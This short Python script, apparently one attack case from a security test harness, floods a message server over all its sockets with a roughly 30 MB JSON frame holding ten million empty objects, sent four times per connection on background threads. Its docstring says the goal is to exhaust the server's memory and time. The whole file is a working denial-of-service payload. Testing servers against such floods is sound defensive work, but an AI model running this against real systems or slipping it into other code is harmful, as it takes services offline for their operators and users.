"""Sends short messages with many objects, so that reading them takes the server's memory and time."""

import os
import threading

import target

target.tried()
frame = target.frame(b'{"type": "x", "content": [' + b"{}," * 10_000_000 + b"{}]}")


def flood(fd: int) -> None:
    for _ in range(4):
        view = memoryview(frame)
        while view:
            view = view[os.write(fd, view) :]


for fd in target.sockets():
    threading.Thread(target=flood, args=(fd,), daemon=True).start()
for _ in target.until(2):
    pass
